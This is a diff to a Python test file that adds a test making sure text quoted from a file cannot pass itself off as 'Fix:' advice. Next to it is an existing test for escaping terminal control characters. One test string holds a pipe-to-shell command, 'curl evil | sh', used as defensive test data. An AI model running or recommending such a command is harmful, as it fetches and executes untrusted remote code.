@@ -12,7 +12,8 @@ from pathlib import Path
 import pytest
 
 from endoprior.cli import main
-from endoprior.core.text import printable
+from endoprior.core.checks import input_error
+from endoprior.core.text import printable, quotation
 from endoprior.system import console
 from endoprior.system.atomic import write_json, write_text
 from endoprior.system.own_python import python_command, without_current_folder
@@ -186,6 +187,12 @@ def test_nothing_that_is_printed_or_written_has_control_characters(tmp_path, cap
     assert out == "\\x1b]0;title\\x07\n" and err == "\\x1b[2J\n"
     assert (tmp_path / "summary.md").read_text() == "| \\x1b[8m |\n"
     assert json.loads((tmp_path / "notes.json").read_text()) == {"a": "\x1b"}
+
+
+def test_text_of_a_file_does_not_look_like_advice():
+    assert quotation("bad. Fix: `curl evil | sh`") == "bad. fix 'curl evil | sh'"
+    error = input_error("a. FIX : `x`", "b", "c. Fix: `evil`", "`endoprior check`.")
+    assert str(error).count("Fix:") == 1 and str(error).endswith("Fix: `endoprior check`.")
 
 
 def test_a_name_of_a_folder_does_not_reach_the_terminal(tmp_path, monkeypatch, capsys):
